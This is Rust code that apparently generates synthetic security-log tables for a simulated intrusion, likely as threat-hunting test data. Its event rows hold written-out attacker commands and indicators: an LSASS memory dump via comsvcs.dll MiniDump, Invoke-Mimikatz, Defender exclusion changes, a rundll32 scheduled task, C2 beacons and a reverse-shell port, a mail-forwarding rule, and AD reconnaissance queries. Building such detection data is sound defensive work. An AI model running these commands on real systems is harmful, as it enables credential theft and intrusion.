        let mut row = vec![
            ("Timestamp", at(m)),
            ("ActionType", s(action)),
            ("AdditionalFields", KV::Dyn(fields)),
            ("ReportId", report),
        ];
        row.extend(who.device());
        row.extend(extra);
        t.push("DeviceEvents", &row);
    };
    dev_event(
        t,
        a,
        30,
        "ScheduledTaskCreated",
        a.initiating("schtasks.exe", "schtasks.exe /create", "powershell.exe").to_vec(),
        json!({"TaskName": "\\OneDrive Updater", "TaskContent": "rundll32.exe C:\\ProgramData\\Updater\\update_helper.dll,Start"}),
        c.next(),
    );
    dev_event(
        t,
        target,
        41,
        "ServiceInstalled",
        target.initiating("services.exe", "services.exe", "wininit.exe").to_vec(),
        json!({"ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem", "ServiceStartType": 3}),
        c.next(),
    );
    dev_event(
        t,
        a,
        20,
        "OpenProcessApiCall",
        {
            let mut x = a
                .initiating(
                    "rundll32.exe",
                    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624",
                    "powershell.exe",
                )
                .to_vec();
            x.extend([("FileName", s("lsass.exe")), ("FolderPath", s("C:\\Windows\\System32\\lsass.exe"))]);
            x
        },
        json!({"DesiredAccess": 2097151}),
        c.next(),
    );
    for (m, cmd) in [
        (1, "Invoke-WebRequest"),
        (1, "Invoke-Expression"),
        (31, "Set-MpPreference"),
        (31, "Add-MpPreference"),
        (23, "Invoke-Mimikatz"),
    ] {
        dev_event(
            t,
            a,
            m,
            "PowerShellCommand",
            a.initiating("powershell.exe", "powershell.exe -nop -w hidden", "WINWORD.EXE")
                .to_vec(),
            json!({"Command": cmd}),
            c.next(),
        );
    }
    for i in 0..6 {
        let d = On {
            d: dev(i + 3),
            u: usr(i + 3),
        };
        for cmd in ["Get-Date", "Out-Default", "Get-ChildItem"] {
            dev_event(
                t,
                &d,
                -900 + i as i64 * 45,
                "PowerShellCommand",
                d.initiating("powershell.exe", "powershell.exe", "explorer.exe").to_vec(),
                json!({"Command": cmd}),
                c.next(),
            );
        }
    }
    dev_event(
        t,
        a,
        5,
        "SmartScreenUrlWarning",
        {
            let mut x = a.initiating("chrome.exe", "chrome.exe", "explorer.exe").to_vec();
            x.push(("RemoteUrl", s("https://docs-share.example-cdn.org/invoice.html")));
            x
        },
        json!({"Experience": "Malicious"}),
        c.next(),
    );
    dev_event(
        t,
        a,
        -1,
        "BrowserLaunchedToOpenUrl",
        {
            let mut x = a.initiating("OUTLOOK.EXE", "OUTLOOK.EXE", "explorer.exe").to_vec();
            x.push(("RemoteUrl", s("https://docs-share.example-cdn.org/invoice.html")));
            x
        },
        json!({}),
        c.next(),
    );
}

/// The beacon and the lateral movement on the network.
fn network(t: &mut Tables, c: &mut Cast, a: &On) {
    let at = c.clock();
    // Network: the beacon every 30 minutes for a day, a reverse shell port, SMB and RDP fan-out from one host.
    let net = |t: &mut Tables, who: &On, m: i64, ip: &str, port: i64, url: &str, by: &str, remote_type: &str, report: KV| {
        let mut row = vec![
            ("Timestamp", at(m)),
            ("ActionType", s("ConnectionSuccess")),
            ("RemoteIP", s(ip)),
            ("RemotePort", KV::Long(port)),
            ("RemoteUrl", s(url)),
            ("LocalIP", s(&who.d.private_ip)),
            ("LocalPort", KV::Long(50000 + m.rem_euclid(10000))),
            ("Protocol", s("Tcp")),
            ("RemoteIPType", s(remote_type)),
            ("LocalIPType", s("Private")),
            ("InitiatingProcessFileName", s(by)),
            ("InitiatingProcessAccountName", s(&who.u.account)),
            ("InitiatingProcessAccountDomain", s(who.u.domain)),
            ("ReportId", report),
        ];
        row.extend(who.device());
        t.push("DeviceNetworkEvents", &row);
    };
    for k in 0..48 {
        net(
            t,
            a,
            36 + k * 30,
            "203.0.113.77",
            443,
            "update-check.example-c2.net",
            "rundll32.exe",
            "Public",
            c.next(),
        );
    }
    net(t, a, 1, "203.0.113.77", 4444, "", "powershell.exe", "Public", c.next());
    for k in 0..14 {
        let ip = format!("10.1.{}.{}", 10 + k / 8, 20 + k);
        net(t, a, 42 + k / 5, &ip, 445, "", "System", "Private", c.next());
        if k < 7 {
            net(t, a, 44, &ip, 3389, "", "mstsc.exe", "Private", c.next());
        }
    }
}

/// A password guessed from the internet on a server.
fn logons(t: &mut Tables, c: &mut Cast) {
    let at = c.clock();
    let (dev, usr) = c.pools();
    // Logons: a password guessed from the internet, RDP from a public address.
    let server = dev(15);
    for k in 0..14 {
        let u = usr(k);
        let ok = k == 13;
        let mut row = vec![
            ("Timestamp", at(-300 + k as i64)),
            ("DeviceId", s(&server.mde_id)),
            ("DeviceName", s(&server.fqdn)),
            ("ActionType", s(if ok { "LogonSuccess" } else { "LogonFailed" })),
            ("LogonType", s(if ok { "RemoteInteractive" } else { "Network" })),
            ("AccountDomain", s(u.domain)),
            ("AccountName", s(&u.account)),
            ("AccountSid", s(&u.sid)),
            ("Protocol", s("NTLM")),
            ("FailureReason", s(if ok { "" } else { "InvalidUserNameOrPassword" })),
            ("IsLocalAdmin", KV::Bool(ok)),
            ("RemoteIP", s("203.0.113.66")),
            ("RemoteIPType", s("Public")),
            ("RemotePort", KV::Long(51000 + k as i64)),
            ("ReportId", c.next()),
        ];
        if ok {
            row.push(("LogonId", KV::Long(999_001)));
        }
        t.push("DeviceLogonEvents", &row);
    }
}

/// Entra ID sign-ins: a spray and an impossible traveller.
fn identity_logons(t: &mut Tables, c: &mut Cast) {
    let at = c.clock();
    let (_, usr) = c.pools();
    let e = c.e;
    // Identity: a password spray against Entra ID, one account signing in from three countries in a day.
    for (k, u) in e.users.iter().enumerate().take(12) {
        let mut row = identity_logon(u, at(-540 + k as i64 * 2), "LogonFailed", "203.0.113.99", "RO");
        row.push(("FailureReason", s("InvalidUserNameOrPassword")));
        t.push("IdentityLogonEvents", &row);
    }
    let traveller = usr(4);
    for (k, (ip, cc)) in [("198.51.100.20", "NL"), ("203.0.113.140", "BR"), ("203.0.113.151", "VN")]
        .iter()
        .enumerate()
    {
        t.push(
            "IdentityLogonEvents",
            &identity_logon(traveller, at(-200 + k as i64 * 90), "LogonSuccess", ip, cc),
        );
    }
}

/// Active Directory changes and reconnaissance against the domain controller.
fn directory(t: &mut Tables, rng: &mut Rng, c: &mut Cast, a: &On) {
    let at = c.clock();
    let (_, usr) = c.pools();
    // Directory changes: an account added to Domain Admins, a password reset by someone else, an account disabled.
    let admin = usr(1);
    let victim = usr(9);
    for (m, action, target, fields) in [
        (
            45,
            "Group Membership changed",
            usr(1),
            json!({"TO.GROUP": "Domain Admins", "TARGET_OBJECT.GROUP": "Domain Admins"}),
        ),
        (
            46,
            "Account Password changed",
            victim,
            json!({"TARGET_OBJECT.USER": victim.account}),
        ),
        (47, "Account disabled", usr(10), json!({"TARGET_OBJECT.USER": usr(10).account})),
    ] {
        t.push(
            "IdentityDirectoryEvents",
            &[
                ("Timestamp", at(m)),
                ("ActionType", s(action)),
                ("Application", s("Active Directory")),
                ("TargetAccountUpn", s(&target.upn)),
                ("TargetAccountDisplayName", s(&target.display)),
                ("Protocol", s("Samr")),
                ("AccountName", s(&admin.account)),
                ("AccountDomain", s(admin.domain)),
                ("AccountUpn", s(&admin.upn)),
                ("AccountSid", s(&admin.sid)),
                ("AccountDisplayName", s(&admin.display)),
                ("DeviceName", s(&a.d.fqdn)),
                ("IPAddress", s(&a.d.private_ip)),
                ("DestinationDeviceName", s("dc01.contoso.local")),
                ("ReportId", s(&rng.hex(12))),
                ("AdditionalFields", KV::Dyn(fields)),
            ],
        );
    }
    // Reconnaissance against the domain controller: LDAP (admins, SPNs) and SAMR enumerations.
    let recon: Vec<(&str, &str, &str, &str)> = vec![
        ("LDAP query", "Ldap", "AllUsers", "(&(objectCategory=person)(objectClass=user))"),
        ("LDAP query", "Ldap", "Domain Admins", "(&(objectCategory=group)(cn=Domain Admins))"),
        (
            "LDAP query",
            "Ldap",
            "Enterprise Admins",
            "(&(objectCategory=group)(cn=Enterprise Admins))",
        ),
        (
            "LDAP query",
            "Ldap",
            "AllServicePrincipalNames",
            "(&(objectCategory=user)(servicePrincipalName=*))",
        ),
        ("LDAP query", "Ldap", "AllComputers", "(objectCategory=computer)"),
        ("LDAP query", "Ldap", "AllTrusts", "(objectClass=trustedDomain)"),
        ("SAMR query", "Samr", "AllUsers", "QueryDisplayInformation"),
        ("SAMR query", "Samr", "AllGroups", "EnumerateGroups"),
        ("SAMR query", "Samr", "AllDomains", "EnumerateDomains"),
        ("DNS query", "Dns", "contoso.local", "AXFR"),
    ];
    for (k, (action, proto, target_name, query)) in recon.iter().enumerate() {
        let rep = rng.hex(12);
        t.push(
            "IdentityQueryEvents",
            &[
                ("Timestamp", at(11 + k as i64 / 4)),
                ("ActionType", s(action)),
                ("Application", s("Active Directory")),
                ("QueryType", s(target_name)),
                ("QueryTarget", s(target_name)),
                ("Query", s(query)),
                ("Protocol", s(proto)),
                ("AccountName", s(&a.u.account)),
                ("AccountDomain", s(a.u.domain)),
                ("AccountUpn", s(&a.u.upn)),
                ("AccountSid", s(&a.u.sid)),
                ("AccountDisplayName", s(&a.u.display)),
                ("DeviceName", s(&a.d.fqdn)),
                ("IPAddress", s(&a.d.private_ip)),
                ("DestinationDeviceName", s("dc01.contoso.local")),
                ("DestinationIPAddress", s("10.1.0.5")),
                ("DestinationPort", KV::Long(if *proto == "Ldap" { 389 } else { 445 })),
                ("ReportId", s(&rep)),
                ("AdditionalFields", KV::Dyn(json!({"Count": 1}))),
            ],
        );
    }
}

/// The phishing mail and its neighbours.
fn email(t: &mut Tables, rng: &mut Rng, c: &mut Cast, a: &On, docm: &str) {
    let at = c.clock();
    let (dev, usr) = c.pools();
    let e = c.e;
    // Email: the phishing mail with the macro document, a malware ISO, a lookalike sender mailing many people,
    // and a click through a warning page.
    let phish_id = rng.guid();
    mail(
        t,
        &phish_id,
        at(-10),
        "accounts@c0ntoso-billing.com",
        "c0ntoso-billing.com",
        &a.u.upn,
        "Overdue invoice 0423",
        "Phish",
        1,
        1,
    );
    attachment(
        t,
        &phish_id,
        at(-10),
        "accounts@c0ntoso-billing.com",
        &a.u.upn,
        "invoice_0423.docm",
        "docm",
        docm,
        "Malware",
        "Trojan:O97M/Donoff",
    );
    url_info(t, &phish_id, at(-10), "https://docs-share.example-cdn.org/invoice.html");
    let iso_id = rng.guid();
    let iso = rng.hex(64);
    mail(
        t,
        &iso_id,
        at(-20),
        "hr@example-careers.net",
        "example-careers.net",
        &usr(5).upn,
        "Your new contract",
        "Malware",
        1,
        0,
    );
    attachment(
        t,
        &iso_id,
        at(-20),
        "hr@example-careers.net",
        &usr(5).upn,
        "contract.iso",
        "iso",
        &iso,
        "Malware",
        "Trojan:Win32/IsoDropper",
    );
    for u in e.users.iter().take(14) {
        let id = rng.guid();
        mail(
            t,
            &id,
            at(-100),
            "it-support@c0ntoso.com",
            "c0ntoso.com",
            &u.upn,
            "Action required: mailbox quota",
            "Phish",
            0,
            1,
        );
        url_info(t, &id, at(-100), "http://login-microsoftonline.example-phish.net/owa");
    }
    for (k, u) in e.users.iter().enumerate().take(3) {
        t.push(
            "UrlClickEvents",
            &[
                ("Timestamp", at(-95 + k as i64)),
                ("Url", s("http://login-microsoftonline.example-phish.net/owa")),
                ("ActionType", s(if k == 0 { "ClickBlocked" } else { "ClickAllowed" })),
                ("AccountUpn", s(&u.upn)),
                ("Workload", s("Email")),
                ("IPAddress", s(&dev(k).public_ip)),
                ("ThreatTypes", s("Phish")),
                ("IsClickedThrough", KV::Bool(k > 0)),
                ("UrlChain", s("[\"http://login-microsoftonline.example-phish.net/owa\"]")),
                ("ReportId", s(&rng.hex(12))),
            ],
        );
    }
    // Clean mail for contrast.
    for (k, u) in e.users.iter().enumerate() {
        let id = rng.guid();
        mail(
            t,
            &id,
            at(-1500 + k as i64 * 13),
            "newsletter@example-news.org",
            "example-news.org",
            &u.upn,
            "Weekly digest",
            "",
            0,
            2,
        );
    }
}

/// Cloud app activity after the intrusion.
fn cloud_apps(t: &mut Tables, c: &mut Cast, a: &On) {
    let admin = a.u;
    let at = c.clock();
    let (dev, usr) = c.pools();
    let e = c.e;
    // Cloud apps: a mass download, a forwarding rule, an OAuth consent, a role grant, activity through an
    // anonymising proxy, and mail read by an application.
    let insider = usr(6);
    for k in 0..80 {
        cloud(
            t,
            insider,
            at(90 + k / 4),
            "FileDownloaded",
            "Microsoft SharePoint Online",
            false,
            "198.51.100.30",
            false,
            &format!("Finance/Q4/report_{k:03}.xlsx"),
            json!({"SiteUrl": "https://contoso.sharepoint.example/sites/Finance"}),
        );
    }
    cloud(
        t,
        a.u,
        at(55),
        "New-InboxRule",
        "Microsoft Exchange Online",
        false,
        "203.0.113.99",
        false,
        "Forward",
        json!({"Parameters": [{"Name": "ForwardTo", "Value": "drop@example-mailbox.net"}, {"Name": "Name", "Value": "."}]}),
    );
    cloud(
        t,
        a.u,
        at(56),
        "Consent to application.",
        "Microsoft Entra ID",
        false,
        "203.0.113.99",
        false,
        "Mail Sync Pro",
        json!({"ModifiedProperties": [{"Name": "ConsentAction.Permissions", "NewValue": "Mail.ReadWrite offline_access"}]}),
    );
    cloud(
        t,
        admin,
        at(57),
        "Add member to role.",
        "Microsoft Entra ID",
        true,
        "203.0.113.99",
        false,
        "Global Administrator",
        json!({"Target": [{"ID": a.u.upn}], "Role": "Global Administrator"}),
    );
    cloud(
        t,
        a.u,
        at(58),
        "MailItemsAccessed",
        "Microsoft Exchange Online",
        false,
        "203.0.113.99",
        true,
        "Inbox",
        json!({"ClientAppId": "Mail Sync Pro", "OperationCount": 412}),
    );
    for (k, u) in e.users.iter().enumerate().take(8) {
        cloud(
            t,
            u,
            at(-1000 + k as i64 * 31),
            "FileAccessed",
            "Microsoft OneDrive for Business",
            false,
            &dev(k).public_ip,
            false,
            "Documents/notes.docx",
            json!({}),
        );
    }
}

fn identity_logon(u: &User, at: KV, action: &str, ip: &str, cc: &str) -> Vec<(&'static str, KV)> {
    vec![
        ("Timestamp", at),
        ("ActionType", s(action)),
        ("Application", s("Microsoft Entra ID")),
        ("LogonType", s("Login:login")),
        ("Protocol", s("OAuth2")),
        ("AccountName", s(&u.account)),
        ("AccountDomain", s(TENANT_DOMAIN)),
        ("AccountUpn", s(&u.upn)),
        ("AccountSid", s(&u.sid)),
        ("AccountObjectId", s(&u.aad_id)),
        ("AccountDisplayName", s(&u.display)),
        ("IPAddress", s(ip)),
        ("Port", KV::Long(0)),
        ("Location", s(cc)),
        ("ReportId", s(&format!("{ip}-{}", u.account))),
        ("AdditionalFields", KV::Dyn(json!({}))),
    ]
}

#[allow(clippy::too_many_arguments)]
fn mail(t: &mut Tables, id: &str, at: KV, from: &str, domain: &str, to: &str, subject: &str, threats: &str, attachments: i64, urls: i64) {
    t.push(
        "EmailEvents",
        &[
            ("Timestamp", at),
            ("NetworkMessageId", s(id)),
            ("InternetMessageId", s(&format!("<{id}@{domain}>"))),
            ("SenderFromAddress", s(from)),
            ("SenderMailFromAddress", s(from)),
            ("SenderDisplayName", s(from.split('@').next().unwrap_or(""))),
            ("SenderFromDomain", s(domain)),
            ("SenderMailFromDomain", s(domain)),
            ("SenderIPv4", s("203.0.113.210")),
            ("RecipientEmailAddress", s(to)),
            ("Subject", s(subject)),
            ("EmailDirection", s("Inbound")),
            ("DeliveryAction", s("Delivered")),
            ("DeliveryLocation", s("Inbox/folder")),
            ("ThreatTypes", s(threats)),
            ("AttachmentCount", KV::Long(attachments)),
            ("UrlCount", KV::Long(urls)),
            ("EmailLanguage", s("en")),
            ("ReportId", s(&format!("{id}-{to}"))),
        ],
    );
}

#[allow(clippy::too_many_arguments)]
fn attachment(
    t: &mut Tables,
    id: &str,
    at: KV,
    from: &str,
    to: &str,
    name: &str,
    kind: &str,
    sha256: &str,
    threats: &str,
    threat_name: &str,
) {
    t.push(
        "EmailAttachmentInfo",
        &[
            ("Timestamp", at),
            ("NetworkMessageId", s(id)),
            ("SenderFromAddress", s(from)),
            ("RecipientEmailAddress", s(to)),
            ("FileName", s(name)),
            ("FileType", s(kind)),
            ("SHA256", s(sha256)),
            ("FileSize", KV::Long(88_000)),
            ("ThreatTypes", s(threats)),
            ("ThreatNames", s(threat_name)),
            ("DetectionMethods", s("{\"Malware\":[\"File detonation\"]}")),
            ("ReportId", s(&format!("{id}-a"))),
        ],
    );
}

fn url_info(t: &mut Tables, id: &str, at: KV, url: &str) {
    let domain = url::Url::parse(url)
        .ok()
        .and_then(|u| u.host_str().map(str::to_string))
        .unwrap_or_default();
    t.push(
        "EmailUrlInfo",
        &[
            ("Timestamp", at),
            ("NetworkMessageId", s(id)),
            ("Url", s(url)),
            ("UrlDomain", s(&domain)),
            ("UrlLocation", s("Body")),
            ("ReportId", s(&format!("{id}-u"))),
        ],
    );
}

#[allow(clippy::too_many_arguments)]
fn cloud(t: &mut Tables, u: &User, at: KV, action: &str, app: &str, admin: bool, ip: &str, proxy: bool, object: &str, raw: Value) {
    t.push(
        "CloudAppEvents",
        &[
            ("Timestamp", at),
            ("ActionType", s(action)),
            ("Application", s(app)),
            (
                "ApplicationId",
                KV::Long(if app.contains("Exchange") {
                    20893
                } else if app.contains("Entra") {
                    12260
                } else {
                    15600
                }),
            ),
            ("AccountObjectId", s(&u.aad_id)),
            ("AccountId", s(&u.upn)),
            ("AccountDisplayName", s(&u.display)),
            ("IsAdminOperation", KV::Bool(admin)),
            ("DeviceType", s("Desktop")),
            ("OSPlatform", s("Windows")),
            ("IPAddress", s(ip)),
            ("IsAnonymousProxy", KV::Bool(proxy)),
            ("CountryCode", s(if proxy { "RO" } else { "NL" })),
            ("ISP", s(if proxy { "Example Anonymizer" } else { "Example Telecom" })),
            ("UserAgent", s("Mozilla/5.0 (Windows NT 10.0; Win64; x64)")),
            ("ActivityType", s(if action.starts_with("File") { "Download" } else { "Edit" })),
            ("ObjectName", s(object)),
            ("ObjectType", s(if action.starts_with("File") { "File" } else { "Resource" })),
            ("RawEventData", KV::Dyn(raw)),
            ("ReportId", s(&format!("{action}-{object}-{}", u.account))),
        ],
    );
}
